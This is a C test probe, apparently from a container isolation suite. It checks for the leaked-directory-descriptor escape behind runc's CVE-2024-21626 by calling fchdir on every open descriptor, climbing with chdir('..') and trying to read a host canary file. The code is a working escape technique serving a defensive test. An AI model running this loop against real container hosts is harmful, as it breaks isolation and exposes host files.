/* SPDX-License-Identifier: MIT */
/*
 * Any directory that is left open across the change of roots is a way back: fchdir to it and climb. runc has had that
 * (CVE-2024-21626, a descriptor of /sys/fs/cgroup and a working directory below it).
 */
#include "attack.h"

#include <fcntl.h>

int main(void)
{
    const char *canary = scene("SN_CANARY");
    char cwd[4096];

    if (getcwd(cwd, sizeof(cwd)) && cwd[0] != '/')
        breach("its working directory is outside: %s", cwd);
    for (int i = 0; i < 1024; i++) {
        int fd;

        if (fchdir(i) < 0)
            continue;
        for (int j = 0; j < 64; j++)
            if (chdir("..") < 0)
                break;
        fd = open(canary + 1, O_RDONLY | O_CLOEXEC);
        if (fd >= 0) {
            show(fd);
            breach("descriptor %d leads to the host's root", i);
        }
        breach("descriptor %d is a directory", i);
    }
    held("no descriptor is a directory");
}
